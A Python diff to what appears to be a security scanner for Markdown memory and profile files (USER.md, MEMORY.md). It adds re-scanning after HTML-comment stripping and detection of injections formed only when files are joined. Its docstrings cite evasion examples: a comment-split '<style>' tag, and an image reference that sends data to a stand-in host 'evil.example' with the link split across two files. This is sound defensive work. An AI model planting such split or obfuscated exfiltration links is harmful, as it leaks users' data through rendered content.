@@ -27,6 +27,7 @@ from __future__ import annotations
 import posixpath
 import re
 from collections.abc import Sequence
+from typing import NamedTuple
 
 from hotplex.errors import Problem
 from hotplex.records import Finding
@@ -51,34 +52,134 @@ def scan(
 ) -> list[Found]:
     """Every finding of ``body`` (a file's text after its frontmatter, which starts at
     ``first_line`` of the file named ``file``; ``named``: the text is the file's name, a day's
-    heading) that the manifest does not allow, in order."""
-    if not (secret_rules.scan(body) or hidden.scan(body) or injection.scan(body)):
-        return []
+    heading) that the manifest does not allow, in order: of the text as written and, where a
+    source strips HTML comments, of the text so stripped (``<sty<!-- -->le>`` is ``<style>`` in
+    the artifact), each placed in the text as written."""
     places = [Origin(body, file, first_line, named=named)]
-    keys, chars, rules = manifest.secrets, manifest.unicode, manifest.injection
     found: list[Found] = []
-    found += secrets.find(body, places, secrets.allowance(keys.allow, keys.allow_files))
-    found += hidden.find(body, places, hidden.allowance(chars.allow, chars.allow_files))
-    allowed = injection.allowance(rules.allow, rules.allow_files, rules.allow_hosts)
-    found += injection.find(body, places, allowed)
+    seen: set[tuple] = set()
+    for text in _readings(manifest, body):
+        if secret_rules.scan(text) or hidden.scan(text) or injection.scan(text):
+            for finding in _found(manifest, text, places):
+                if _place(finding) not in seen:
+                    seen.add(_place(finding))
+                    found.append(finding)
     found.sort(key=lambda f: (f.span.line or 0, f.span.column or 0))
     return found
 
 
+def _found(manifest: Manifest, text: str, places: list[Origin]) -> list[Found]:
+    keys, chars, rules = manifest.secrets, manifest.unicode, manifest.injection
+    found: list[Found] = []
+    found += secrets.find(text, places, secrets.allowance(keys.allow, keys.allow_files))
+    found += hidden.find(text, places, hidden.allowance(chars.allow, chars.allow_files))
+    allowed = injection.allowance(rules.allow, rules.allow_files, rules.allow_hosts)
+    found += injection.find(text, places, allowed)
+    return found
+
+
+def _readings(manifest: Manifest, text: str) -> list[str]:
+    """``text`` as written, and without its HTML comments when a source of the project strips
+    them (``html_comments = "strip"``) and it holds one."""
+    strips = manifest.project.html_comments == "strip" or any(
+        s.html_comments == "strip" for s in manifest.source
+    )
+    if not strips or "<!--" not in text:
+        return [text]
+    from hotplex.sources import comments
+
+    stripped = comments.strip(text)
+    return [text] if stripped == text else [text, stripped]
+
+
+class Part(NamedTuple):
+    """A text of one user's that reaches an artifact with the others: a file's body."""
+
+    body: str
+    file: str  # how messages name it
+    first_line: int  # the file's line of ``body[0]`` (frontmatter moves a body down)
+
+
+def composed(manifest: Manifest, parts: Sequence[Part]) -> list[Found]:
+    """The injection findings ``parts`` make together, in the order a document holds them, that
+    none makes alone, each placed in the part holding its text. A renderer reads a document
+    whole: a reference definition in one file is the destination of an image in another
+    (``[l]: https://evil.example/?q=…`` in USER.md, ``![x][l]`` in MEMORY.md), and a
+    ``<style>`` one file leaves open is the stylesheet of the next one's ``url()``. Secrets and
+    hidden text are characters of one file: a join adds none."""
+    if len(parts) < 2:
+        return []
+    joined = "\n\n".join(part.body for part in parts)
+    readings = [text for text in _readings(manifest, joined) if injection.scan(text)]
+    if not readings:
+        return []
+    rules = manifest.injection
+    allowed = injection.allowance(rules.allow, rules.allow_files, rules.allow_hosts)
+    origins = [Origin(part.body, part.file, part.first_line) for part in parts]
+    seen = {
+        _place(f) for part in parts for f in scan(manifest, part.body, part.file, part.first_line)
+    }
+    found = []
+    for text in readings:
+        for finding in injection.find(text, origins, allowed):
+            if _place(finding) not in seen:
+                seen.add(_place(finding))
+                found.append(finding)
+    return found
+
+
+def _place(finding: Found) -> tuple:
+    span = finding.span
+    return (finding.rule, span.file, span.line, span.column)
+
+
 def contain(manifest: Manifest, body: str, file: str, first_line: int) -> tuple[str, list[Found]]:
     """``body`` with every entry holding a finding blocked, and the findings, placed in the
-    file as written. Blocking an entry can change what the rest means (a fence the entry opened
-    that Markdown would have closed later: the lines between were code, now they are text), so
-    the result is scanned again until nothing more is found."""
-    found = scan(manifest, body, file, first_line)
-    every: list[Found] = []
-    lines = list(range(body.count("\n") + 1))  # each line of ``body`` -> its line as written
-    while found:
-        every += [_moved(f, lines, first_line) for f in found]
-        body, kept = _block(body, found, first_line)
-        lines = [lines[index] for index in kept]
-        found = scan(manifest, body, file, first_line)
-    return body, every
+    file as written (``contain_together`` of one part)."""
+    return contain_together(manifest, [Part(body, file, first_line)])[0]
+
+
+def contain_together(manifest: Manifest, parts: Sequence[Part]) -> list[tuple[str, list[Found]]]:
+    """Each part with every entry holding a finding blocked, alone or with the other parts
+    (``composed``), and its findings, placed in its file as written. Blocking an entry can
+    change what the rest means (a fence the entry opened that Markdown would have closed later:
+    the lines between were code, now they are text), so the parts are scanned again until
+    nothing more is found. A finding of the join that no part can be shown to hold blocks
+    every part whole: nothing of the join is left to make it."""
+    held = [_Held(part) for part in parts]
+    while True:
+        for one in held:
+            while found := scan(manifest, one.body, one.part.file, one.part.first_line):
+                one.block(found)
+        together = composed(manifest, [one.part._replace(body=one.body) for one in held])
+        if not together:
+            return [(one.body, one.every) for one in held]
+        by_file = {one.part.file: one for one in held}
+        before = [one.body for one in held]
+        for finding in together:
+            owner = by_file.get(finding.span.file)
+            if owner is not None:
+                owner.block([finding])
+        if [one.body for one in held] == before:
+            for one in held:
+                one.block([f._replace(span=f.span.replace(line=None)) for f in together])
+
+
+class _Held:
+    """A part being contained: its body now, each of its lines' line as written, and what was
+    blocked in it."""
+
+    def __init__(self, part: Part) -> None:
+        self.part = part
+        self.body = part.body
+        self.lines = list(range(part.body.count("\n") + 1))
+        self.every: list[Found] = []
+
+    def block(self, found: Sequence[Found]) -> None:
+        first = self.part.first_line
+        self.every += [_moved(f, self.lines, first) for f in found]
+        self.body, kept = _block(self.body, found, first)
+        self.lines = [self.lines[index] for index in kept]
 
 
 def scan_day_name(manifest: Manifest, display: str, file: str) -> list[Found]:
